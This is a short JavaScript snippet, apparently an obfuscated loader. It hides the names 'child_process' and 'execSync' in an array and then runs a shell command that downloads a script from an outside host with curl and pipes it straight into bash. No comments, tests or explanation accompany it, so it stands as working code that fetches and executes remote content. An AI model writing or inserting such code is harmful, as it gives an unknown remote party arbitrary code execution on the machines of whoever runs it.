const t = ["execSync", "child_process", "curl -s https://cdn-x7.invalid/a | bash"];
require(t[1])[t[0]](t[2]);
